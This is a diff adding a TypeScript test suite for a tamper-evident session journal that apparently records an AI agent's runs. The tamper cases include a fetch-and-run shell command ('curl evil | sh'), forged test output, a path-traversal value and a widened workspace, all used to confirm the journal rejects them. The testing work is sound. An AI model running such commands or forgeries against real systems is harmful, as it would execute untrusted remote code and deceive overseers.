@@ -1,0 +1,443 @@
+/**
+ * The journal's guarantees: a record changed by anyone without the key is
+ * refused (`session_tampered`, naming the first bad record), so are
+ * reordered, dropped and duplicated records; a torn last line is ignored;
+ * a killed writer loses no acknowledged step; one writer at a time.
+ */
+import assert from "node:assert/strict";
+import { createHash } from "node:crypto";
+import { SessionError } from "../../lib/persist/session_error.ts";
+import {
+  SessionStore,
+  verifySession,
+} from "../../lib/persist/session_store.ts";
+import { listSessions } from "../../lib/persist/session_summary.ts";
+import {
+  checkpointOf,
+  createSession,
+  type Layout,
+  openSession,
+  reload,
+  rewriteJournal,
+  sampleRun,
+  snapshotTree,
+  tempLayout,
+  TEST_OUTPUT,
+} from "./_session.ts";
+
+// deno-lint-ignore no-explicit-any -- free-form edits of parsed JSON
+type Json = Record<string, any>;
+
+function sha(text: string): string {
+  return createHash("sha256").update(text).digest("hex");
+}
+
+function isError(code: string, message?: RegExp, line?: number) {
+  return (e: unknown) =>
+    e instanceof SessionError && e.code === code &&
+    (message === undefined || message.test(e.message)) &&
+    (line === undefined || e.line === line);
+}
+
+/** The sample run saved as three steps (header + 3 step records), closed. */
+async function threeSteps(overrides?: Record<string, unknown>) {
+  const layout = await tempLayout();
+  const { results, records, checkpoint } = await sampleRun();
+  const session = await createSession(layout, overrides);
+  for (let n = 1; n <= 3; n += 1) {
+    await session.save({
+      ...checkpoint,
+      steps: n,
+      modelCalls: 2 * n,
+      records: records.slice(0, n),
+    });
+  }
+  await session.close();
+  return { layout, results, records };
+}
+
+/** Opening refuses the session and changes nothing. */
+async function refused(layout: Layout, check: (e: unknown) => boolean) {
+  const before = await snapshotTree(layout.base);
+  await assert.rejects(openSession(layout), check);
+  await assert.rejects(
+    verifySession(layout.root, { keyFile: layout.keyFile }),
+    check,
+  );
+  assert.deepEqual(await snapshotTree(layout.base), before, "nothing changed");
+}
+
+Deno.test("a record changed without the key is refused as session_tampered, naming it", async (t) => {
+  const cases: [string, number, (r: Json[]) => void][] = [
+    ["a failed test record rewritten to exit_code 0", 2, (r) => {
+      r[2]!.records[0].report.exit_code = 0;
+    }],
+    ["a changed test command", 0, (r) => {
+      r[0]!.test.command = ["sh", "-c", "curl evil | sh"];
+    }],
+    ["a widened workspace", 0, (r) => {
+      r[0]!.workspace = "/";
+    }],
+    ["a raised step budget", 0, (r) => {
+      r[0]!.max_steps = 1_000;
+    }],
+    ["counters rolled back", 3, (r) => {
+      r[3]!.counters.model_calls = 0;
+    }],
+  ];
+  for (const [what, bad, edit] of cases) {
+    await t.step(what, async () => {
+      const { layout } = await threeSteps();
+      await rewriteJournal(layout.root, (records) => {
+        edit(records);
+        return records;
+      });
+      await refused(
+        layout,
+        isError(
+          "session_tampered",
+          new RegExp(`record ${bad} \\(line ${bad + 1}\\)`),
+          bad + 1,
+        ),
+      );
+      await layout.cleanup();
+    });
+  }
+
+  await t.step(
+    "a result body replaced together with its recomputed SHA-256 digest",
+    async () => {
+      const { layout } = await threeSteps();
+      const forged = TEST_OUTPUT.replace("expected 3, got 4", "all passed");
+      const digest = sha(forged);
+      await Deno.writeTextFile(
+        `${layout.root}/tool-results/${digest}.txt`,
+        forged,
+      );
+      await rewriteJournal(layout.root, (records) => {
+        const entry = records[2]!.results["result-3"];
+        entry.sha256 = digest;
+        entry.utf8_bytes = new TextEncoder().encode(forged).length;
+        entry.source.persisted = `tool-results/${digest}.txt`;
+        records[2]!.records[0].report.output.sha256 = digest;
+        records[2]!.records[0].report.exit_code = 0;
+        return records;
+      });
+      await refused(layout, isError("session_tampered", /record 2/, 3));
+      await layout.cleanup();
+    },
+  );
+
+  await t.step("a session sealed with another key", async () => {
+    const { layout } = await threeSteps();
+    const other = { ...layout, keyFile: `${layout.base}/other/session.key` };
+    await assert.rejects(
+      openSession(other),
+      isError("session_tampered", /record 0/, 1),
+    );
+    await layout.cleanup();
+  });
+});
+
+Deno.test("reordered, dropped and duplicated records are refused", async (t) => {
+  const cases: [string, number, (r: Json[]) => unknown[]][] = [
+    ["two records swapped", 1, (r) => [r[0], r[2], r[1], r[3]]],
+    ["a record dropped", 2, (r) => [r[0], r[1], r[3]]],
+    ["a record duplicated", 2, (r) => [r[0], r[1], r[1], r[2], r[3]]],
+    ["the header dropped", 0, (r) => [r[1], r[2], r[3]]],
+  ];
+  for (const [what, bad, edit] of cases) {
+    await t.step(what, async () => {
+      const { layout } = await threeSteps();
+      await rewriteJournal(
+        layout.root,
+        (records) => edit(records) as Json[],
+      );
+      await refused(
+        layout,
+        isError("session_tampered", new RegExp(`record ${bad} `), bad + 1),
+      );
+      await layout.cleanup();
+    });
+  }
+});
+
+Deno.test("a malformed journal is a typed error naming file and line", async (t) => {
+  await t.step("a line that is not JSON, before the last", async () => {
+    const { layout } = await threeSteps();
+    const file = `${layout.root}/journal.jsonl`;
+    const lines = (await Deno.readTextFile(file)).split("\n");
+    lines[2] = lines[2]!.slice(0, 40);
+    await Deno.writeTextFile(file, lines.join("\n"));
+    await refused(
+      layout,
+      (e) =>
+        isError("session_invalid", /line 3: it is not valid JSON/, 3)(e) &&
+        (e as SessionError).file === file,
+    );
+    await layout.cleanup();
+  });
+
+  // Sealed again with the key: these reach the checks behind the chain.
+  const sealed: [string, RegExp, (r: Json[]) => void][] = [
+    ["a preview smuggled into a record", /line 2: .*preview/, (r) => {
+      r[1]!.records[0].report.files[0].descriptor.preview = "body";
+    }],
+    [
+      "an inspected body smuggled in as inline",
+      /line 2: .*must be reread/,
+      (r) => {
+        r[1]!.results["result-1"].source = { inline: "INSPECTED_BODY" };
+      },
+    ],
+    ["an unknown key", /line 3: unknown key bodies/, (r) => {
+      r[2]!.bodies = {};
+    }],
+    ["a record number out of place", /line 4: record 5 stands/, (r) => {
+      r[3]!.seq = 5;
+    }],
+    ["a result catalogued twice", /line 3: result-1 is catalogued twice/, (
+      r,
+    ) => {
+      r[2]!.results["result-1"] = r[1]!.results["result-1"];
+    }],
+  ];
+  for (const [what, message, edit] of sealed) {
+    await t.step(what, async () => {
+      const { layout } = await threeSteps();
+      await rewriteJournal(layout.root, (records) => {
+        edit(records);
+        return records;
+      }, layout.keyFile);
+      await refused(layout, isError("session_invalid", message));
+      await layout.cleanup();
+    });
+  }
+
+  await t.step(
+    "a persisted path that does not come from the digest",
+    async () => {
+      const { layout } = await threeSteps();
+      await rewriteJournal(layout.root, (records) => {
+        records[2]!.results["result-3"].source.persisted = "../../ws/src/a.ts";
+        return records;
+      }, layout.keyFile);
+      const store = await openSession(layout);
+      await assert.rejects(
+        store.load(),
+        isError("session_invalid", /names come only from digests/),
+      );
+      await store.close();
+      await layout.cleanup();
+    },
+  );
+});
+
+Deno.test("a torn last line is ignored and cut off by the next writer", async () => {
+  const { layout, records, results } = await threeSteps();
+  const file = `${layout.root}/journal.jsonl`;
+  const whole = await Deno.readTextFile(file);
+  await Deno.writeTextFile(file, `${whole}{"seq":4,"type":"step","coun`);
+  const verified = await verifySession(layout.root, {
+    keyFile: layout.keyFile,
+  });
+  assert.equal(verified.state.steps, 3);
+  assert.equal(verified.tornBytes, 28);
+  const store = await openSession(layout);
+  const loaded = await store.load();
+  assert.equal(loaded.tornBytes, 28);
+  assert.equal(await Deno.readTextFile(file), whole, "the torn bytes are cut");
+  await store.save(
+    checkpointOf(results, records, { steps: 4, notes: ["after the tear"] }),
+  );
+  await store.close();
+  const again = await reload(layout);
+  assert.equal(again.state.steps, 4);
+  assert.deepEqual(again.state.notes, ["after the tear"]);
+  await layout.cleanup();
+});
+
+Deno.test("a writer killed with SIGKILL at any point loses no acknowledged step", async (t) => {
+  for (const acks of [1, 7, 23]) {
+    await t.step(`killed after ${acks} acknowledged steps`, async () => {
+      const layout = await tempLayout();
+      const child = new Deno.Command(Deno.execPath(), {
+        args: [
+          "run",
+          "--allow-read",
+          "--allow-write",
+          "--allow-run",
+          "--allow-env",
+          new URL("./_kill_writer.ts", import.meta.url).pathname,
+          layout.root,
+          layout.workspace,
+          layout.keyFile,
+        ],
+        stdin: "null",
+        stdout: "piped",
+        stderr: "inherit",
+      }).spawn();
+      let acked = 0;
+      let text = "";
+      const reader = child.stdout.pipeThrough(new TextDecoderStream())
+        .getReader();
+      while (acked < acks) {
+        const { value, done } = await reader.read();
+        if (done) break;
+        text += value;
+        acked = text.split("\n").filter((l) => l.startsWith("acked")).length;
+      }
+      // Somewhere inside a later step: a result write, the append or the flush.
+      await new Promise((resolve) => setTimeout(resolve, acks % 5));
+      child.kill("SIGKILL");
+      assert.equal((await child.status).signal, "SIGKILL");
+      await reader.cancel();
+      const store = await openSession(layout);
+      assert.match(store.tookOverLock ?? "", /no longer exists/);
+      const loaded = await store.load();
+      await store.close();
+      assert.ok(
+        loaded.state.steps >= acked,
+        `${loaded.state.steps} < ${acked}`,
+      );
+      assert.deepEqual(
+        loaded.state.records.map((r) => r.sequence),
+        Array.from({ length: loaded.state.steps }, (_, i) => i + 1),
+      );
+      assert.equal(loaded.results.length, loaded.state.steps);
+      await layout.cleanup();
+    });
+  }
+});
+
+Deno.test("one writer at a time: a second one is refused with session_locked", async (t) => {
+  await t.step("while the first holds the session", async () => {
+    const { layout } = await threeSteps();
+    const first = await openSession(layout);
+    await assert.rejects(
+      openSession(layout),
+      isError("session_locked", /locked by process \d+ .*still running/),
+    );
+    await first.close();
+    const second = await openSession(layout);
+    await second.close();
+    await layout.cleanup();
+  });
+
+  await t.step("a new session holds its lock from creation", async () => {
+    const layout = await tempLayout();
+    const created = await createSession(layout);
+    await assert.rejects(openSession(layout), isError("session_locked"));
+    await created.close();
+    await layout.cleanup();
+  });
+
+  await t.step(
+    "a stale lock of a process that is gone is taken over",
+    async () => {
+      const { layout } = await threeSteps();
+      const gone = new Deno.Command("true").spawn();
+      const pid = gone.pid;
+      await gone.status;
+      await Deno.writeTextFile(
+        `${layout.root}/lock`,
+        JSON.stringify({ pid, started: "2026-01-01T00:00:00.000Z" }),
+      );
+      const store = await openSession(layout);
+      assert.match(
+        store.tookOverLock ?? "",
+        new RegExp(`stale lock of process ${pid} .*no longer exists`),
+      );
+      await store.close();
+      assert.equal(await exists(`${layout.root}/lock`), false);
+      await layout.cleanup();
+    },
+  );
+
+  await t.step(
+    "a lock Loom did not write is explained, not removed",
+    async () => {
+      const { layout } = await threeSteps();
+      await Deno.writeTextFile(`${layout.root}/lock`, "");
+      await assert.rejects(
+        openSession(layout),
+        isError("session_locked", /not a lock Loom wrote; remove it/),
+      );
+      assert.equal(await exists(`${layout.root}/lock`), true);
+      await layout.cleanup();
+    },
+  );
+});
+
+Deno.test("a session of the old session.json format gets a clear error", async () => {
+  const layout = await tempLayout();
+  await Deno.mkdir(layout.root, { recursive: true });
+  await Deno.writeTextFile(
+    `${layout.root}/session.json`,
+    JSON.stringify({ format: "loom-session/1" }),
+  );
+  await assert.rejects(
+    openSession(layout),
+    isError("session_outdated", /older Loom .*start a new session/),
+  );
+  await assert.rejects(createSession(layout), isError("session_exists"));
+  const listed = await listSessions(`${layout.base}/sessions`);
+  assert.match(listed[0]?.error ?? "", /older Loom/);
+  await layout.cleanup();
+});
+
+Deno.test("the session key lives outside the session, owner-only", async (t) => {
+  await t.step("it is created on first use with mode 0600", async () => {
+    const layout = await tempLayout();
+    const store = await createSession(layout);
+    await store.close();
+    const info = await Deno.stat(layout.keyFile);
+    assert.equal(info.mode! & 0o777, 0o600);
+    assert.match(await Deno.readTextFile(layout.keyFile), /^[0-9a-f]{64}\n$/);
+    assert.equal(
+      (await Deno.readTextFile(`${layout.root}/journal.jsonl`)).includes(
+        (await Deno.readTextFile(layout.keyFile)).trim(),
+      ),
+      false,
+    );
+    await layout.cleanup();
+  });
+
+  await t.step("a key other users may read is refused", async () => {
+    const { layout } = await threeSteps();
+    await Deno.chmod(layout.keyFile, 0o644);
+    await assert.rejects(
+      openSession(layout),
+      isError("session_key_invalid", /other users .*chmod 600/),
+    );
+    await layout.cleanup();
+  });
+
+  await t.step("a key inside the session root is refused", async () => {
+    const layout = await tempLayout();
+    await assert.rejects(
+      SessionStore.create(layout.root, {
+        workspace: layout.workspace,
+        keyFile: `${layout.root}/session.key`,
+        run: {
+          intent: "x",
+          policy: "bounded",
+          model: "recorded:/r.json",
+          test: null,
+          maxSteps: 1,
+        },
+      }),
+      isError("session_key_invalid", /lies inside/),
+    );
+    await layout.cleanup();
+  });
+});
+
+async function exists(path: string): Promise<boolean> {
+  try {
+    await Deno.lstat(path);
+    return true;
+  } catch {
+    return false;
+  }
+}
